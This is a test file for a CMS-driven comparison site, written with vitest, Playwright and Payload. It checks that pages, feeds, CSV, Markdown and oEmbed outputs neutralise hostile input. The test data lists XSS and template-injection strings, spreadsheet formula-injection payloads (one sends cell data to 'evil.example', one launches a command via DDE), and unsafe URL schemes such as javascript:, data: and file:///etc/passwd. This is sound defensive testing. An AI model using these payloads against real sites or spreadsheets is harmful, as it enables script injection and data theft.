import { sql } from '@payloadcms/db-postgres';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import { expect, onTestFinished } from 'vitest';
import { htmlOf } from '../builders/markdown';
import { test } from '../setup/browser-test';
import { testSite } from '../setup/test-site';
import { listViolations } from './axe';
import { besideTheSite } from './beside-the-site';
import { type OddComparison, publishOddComparison } from './odd-comparison';
import { collectRefusals } from './strict-policy';
import { textsIn } from './texts-in-xml';

const { payload } = besideTheSite();

async function publishOdd(words: Parameters<typeof publishOddComparison>[1]): Promise<OddComparison> {
  const odd = await publishOddComparison(payload(), words);
  onTestFinished(odd.remove);
  // Who asked for these addresses before found nothing there.
  const isThere = async (path: string) => (await fetch(testSite().baseUrl + path)).status;
  for (const path of odd.pages) await expect.poll(() => isThere(path), { timeout: 15_000 }).toBe(200);
  // What was on its way while it was published is followed by another look a second later.
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  for (const path of odd.pages) await expect.poll(() => isThere(path), { timeout: 5_000 }).toBe(200);
  return odd;
}

const hostile = [
  `</script><img src=x onerror="alert(1)"> <svg onload=alert(2)> </title>]]>--></style>`,
  '{{7*7}} <%= 7*7 %> #{7*7} [x](javascript:alert(3)) ![y](//evil.example/p.png) <javascript:alert(4)>',
  '=HYPERLINK("https://evil.example?"&A1) | `a` | **b**',
  '@SUM(1+1)*cmd|"/C calc"!A0 \\" \' &amp; &lt;b&gt; \u2028\u2029',
];
const rightToLeft = ['مقارنة قواعد البيانات للتطبيقات', 'השוואת מסדי נתונים', 'سرعة القراءة والكتابة'];
const eastAsian = [
  '数据库系统的全面比较以及为何这个选择对您的团队非常重要',
  'データベースの比較と選び方',
  '데이터베이스 비교',
];
const long = ['W'.repeat(300), 'i_'.repeat(150), 'ÄÖ'.repeat(150)];
const joined = ['👩‍👩‍👧‍👦👍🏽🏴‍☠️ family', 'Ze̴̜͐r̸̹̚o\u200b\u00ad width', 'left \u202e thgir'];

/** What any reader's page must be like, whatever stands in it; the sizes are a phone and a desk. */
async function check(page: Page, path: string): Promise<void> {
  await page.goto(path);
  expect(await page.evaluate(listOddParts), path).toEqual([]);
  for (const width of [390, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    expect(await page.evaluate(listTooWide), `${path} at ${width} pixels`).toEqual([]);
  }
}

/** In the page: nothing, unless it scrolls sideways; then what reaches beyond the window, and in no box that scrolls. */
function listTooWide(): string[] {
  const { scrollWidth, clientWidth } = document.documentElement;
  if (scrollWidth <= clientWidth) return [];
  const wide = [...document.body.querySelectorAll('*')].filter((element) => {
    const { left, right } = element.getBoundingClientRect();
    return (left < 0 || right > clientWidth) && !element.closest('[role=region], .visually-hidden');
  });
  return wide.map((element) => element.outerHTML.slice(0, 300));
}

/** In the page: addresses that are none for readers, elements that nobody put there, data that is none, and right-to-left words that run the wrong way. */
function listOddParts(): string[] {
  const found: string[] = [];
  for (const element of document.querySelectorAll('[href], [src], [action], [formaction]'))
    for (const name of ['href', 'src', 'action', 'formaction']) {
      const address = element.getAttribute(name);
      if (address === null) continue;
      const { protocol, host } = new URL(address, document.baseURI);
      const isSafe = ['http:', 'https:', 'mailto:'].includes(protocol) && host !== 'evil.example';
      if (!isSafe) found.push(`${name}=${address}`);
    }
  for (const script of document.scripts) {
    if (script.type === 'application/ld+json') JSON.parse(script.text);
    else if (script.type !== 'speculationrules' && !script.src.includes('/_next/static/enhancements/'))
      found.push(script.outerHTML);
  }
  for (const element of document.querySelectorAll('[onerror], [onload], img[src="x"]'))
    found.push(element.outerHTML);
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (texts.nextNode()) {
    const { textContent, parentElement } = texts.currentNode;
    const isRightToLeft = /^[^\p{L}]*[\p{Script=Arabic}\p{Script=Hebrew}][^a-z]*$/iu.test(textContent ?? '');
    if (!isRightToLeft || !parentElement || parentElement.closest('script, option')) continue;
    const { direction } = getComputedStyle(parentElement);
    if (direction !== 'rtl') found.push(`${direction}: ${parentElement.outerHTML}`);
  }
  return found;
}

/** Every form that programs get is what it says it is, and holds the title as it was typed. */
async function checkTwins(page: Page, { slug, title, topic }: OddComparison): Promise<void> {
  const get = async (path: string) => {
    const response = await page.request.get(path);
    expect(response.status(), path).toBe(200);
    return response;
  };
  const json: unknown = await (await get(`/compare/${slug}.json`)).json();
  expect(json).toMatchObject({ title });
  const markdown = await (await get(`/compare/${slug}.md`)).text();
  const html = htmlOf(markdown);
  expect(html).not.toMatch(
    /(?:href|src)="(?!https?:|mailto:|#|\/)[^"]|<(?:script|img|svg)|evil\.example\/p\.png"/i,
  );
  const lines: string[][] = parse(await (await get(`/compare/${slug}.csv`)).text(), { bom: true });
  expect(new Set(lines.map((line) => line.length)).size).toBe(1);
  expect(lines.flat().filter((field) => /^[=+@\t\r-]/.test(field))).toEqual([]);
  const picture = await (await get(`/compare/${slug}.png`)).body();
  expect(picture.subarray(1, 4).toString()).toBe('PNG');
  for (const feed of ['/feeds/all', `/feeds/topics/${topic}`]) {
    for (const format of ['rss', 'atom']) {
      const titles = await textsIn(page, await (await get(`${feed}.${format}`)).text(), 'title');
      expect(
        titles.map((text) => text.trim()),
        `${feed}.${format}`,
      ).toContain(storable(title));
    }
    expect(await (await get(`${feed}.json`)).json()).toMatchObject({
      items: expect.arrayContaining([expect.objectContaining({ title })]),
    });
  }
  const address = `${testSite().baseUrl}/compare/${slug}`;
  const oembed = `/oembed?url=${encodeURIComponent(address)}`;
  expect(await (await get(oembed)).json()).toMatchObject({ title });
  expect(await textsIn(page, await (await get(`${oembed}&format=xml`)).text(), 'title')).toEqual([
    storable(title),
  ]);
  const [shard = ''] = (await textsIn(page, await (await get('/sitemap.xml')).text(), 'loc')).filter((file) =>
    file.includes('comparisons'),
  );
  const listed = await textsIn(page, await (await get(new URL(shard).pathname)).text(), 'loc');
  expect(listed).toContain(address);
  expect(htmlOf(await (await get('/llms.txt')).text())).not.toMatch(/href="(?!https?:)|<(?:script|img|svg)/);
}

/** XML ends lines its own way; everything else arrives. */
const storable = (text: string) => text.replace(/\r\n?/g, '\n').trim();

test.for([
  ['hostile words', hostile, false],
  ['right-to-left words', rightToLeft, true],
  ['words without spaces, joined and invisible characters', [...eastAsian, ...joined], false],
  ['names of 300 letters', long, true],
] as const)('%s break no page and no other form of it', async ([, words, isSeen], { context }) => {
  const odd = await publishOdd({ words });
  const page = await context.newPage();
  const refused = collectRefusals(page);
  for (const path of odd.pages) await check(page, path);
  expect(refused).toEqual([]);
  await page.goto(odd.pages[0] ?? '');
  expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe(odd.title);
  const plain = await context.newPage();
  await plain.setViewportSize({ width: 390, height: 800 });
  await plain.goto(odd.pages[0] ?? '');
  if (isSeen) expect(await listViolations(plain)).toEqual([]);
  await plain.goto('/');
  await checkTwins(plain, odd);
});

test('eight options on sixty criteria with all kinds of names stay within the page', async ({ context }) => {
  const words = [...hostile, ...rightToLeft, ...eastAsian, ...long, ...joined];
  const odd = await publishOdd({ words, options: 8, rows: 60 });
  const page = await context.newPage();
  const refused = collectRefusals(page);
  for (const path of odd.pages.slice(0, 2)) await check(page, path);
  await page.goto(odd.pages[0] ?? '');
  await page.setViewportSize({ width: 390, height: 800 });
  await page.locator('#decide summary').click();
  expect(await page.evaluate(listTooWide)).toEqual([]);
  expect(refused).toEqual([]);
  expect(await page.locator('tbody th[scope=row]').count()).toBe(60);
  expect(await page.locator('thead th').count()).toBe(10);
  const lines: string[][] = parse(await (await page.request.get(`/compare/${odd.slug}.csv`)).text(), {
    bom: true,
  });
  expect(lines.length).toBe(61);
});

const unsafe = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', ' \n javascript:alert(1)'],
  ...[
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>1</script>',
  ],
  ...['//evil.example/', '/\\evil.example/', 'blob:https://evil.example/x', 'file:///etc/passwd'],
];

function linksTo(addresses: readonly string[]) {
  const links = addresses.map((url, index) => ({
    ...{ type: 'link', version: 3, id: `link-${index}`, format: '', indent: 0, direction: null },
    fields: { linkType: 'custom', newTab: false, url },
    children: [
      { type: 'text', text: `Unsafe ${index} `, format: 0, detail: 0, mode: 'normal', style: '', version: 1 },
    ],
  }));
  const paragraph = {
    type: 'paragraph',
    children: links,
    direction: null,
    format: '',
    indent: 0,
    version: 1,
  };
  return JSON.stringify({
    root: { type: 'root', children: [paragraph], direction: null, format: '', indent: 0, version: 1 },
  });
}

test('addresses that readers must not be sent to lead nowhere, however they came into the database', async ({
  context,
}) => {
  const odd = await publishOdd({ words: ['Plain words'] });
  const site = await payload().findGlobal({ slug: 'site' });
  const navigation = unsafe.slice(0, 8).map((_, index) => ({ label: `Unsafe ${index}`, href: '/' }));
  await payload().updateGlobal({ slug: 'site', data: { navigation } });
  try {
    await storeUnsafe(odd);
    // The settings are read once a second.
    await new Promise((resolve) => setTimeout(resolve, 1_100));
    const page = await context.newPage();
    const refused = collectRefusals(page);
    for (const path of odd.pages.slice(0, 3)) await check(page, path);
    await page.goto(odd.pages[0] ?? '');
    expect(await page.getByText('Unsafe 0').count()).toBeGreaterThan(3);
    expect(refused).toEqual([]);
    for (const form of ['md', 'json']) {
      const body = await (await page.request.get(`/compare/${odd.slug}.${form}`)).text();
      const addresses = [
        ...(form === 'md' ? htmlOf(body) : body).matchAll(/(?:href="|"(?:href|url|website)":")([^"]*)/g),
      ];
      expect(addresses.length).toBeGreaterThan(0);
      const leading = addresses.map(([, address = '']) => address.replaceAll('&amp;', '&'));
      expect(leading.filter((address) => !/^(?:https?:|mailto:|#|\/(?![/\\]))/.test(address))).toEqual([]);
    }
  } finally {
    await payload().updateGlobal({ slug: 'site', data: { navigation: site.navigation ?? [] } });
  }
});

/** Past everything that refuses them: as an older version, a script or a restored backup might have left them. */
async function storeUnsafe({ id, optionIds }: OddComparison): Promise<void> {
  const { drizzle } = payload().db;
  const prose = linksTo(unsafe);
  await drizzle.execute(sql`UPDATE comparisons SET intro = ${prose}::jsonb, verdict_text = ${prose}::jsonb,
    disclosure = ${prose}::jsonb, call_to_action_text = ${prose}::jsonb, call_to_action_href = ${unsafe[2]} WHERE id = ${id}`);
  await drizzle.execute(
    sql`UPDATE comparisons_recommendations SET reasoning = ${prose}::jsonb WHERE _parent_id = ${id}`,
  );
  await drizzle.execute(sql`UPDATE comparisons_rows SET cells = jsonb_set(cells,
    ARRAY[${String(optionIds[0])}, 'sources'], ${JSON.stringify([{ url: unsafe[0], title: 'Unsafe' }])}::jsonb)
    WHERE _parent_id = ${id} AND _order = 1`);
  for (const [index, option] of optionIds.entries())
    await drizzle.execute(
      sql`UPDATE options SET website = ${unsafe[index]}, description = ${prose}::jsonb WHERE id = ${option}`,
    );
  for (const [index, href] of unsafe.slice(0, 8).entries())
    await drizzle.execute(sql`UPDATE site_navigation SET href = ${href} WHERE label = ${`Unsafe ${index}`}`);
}
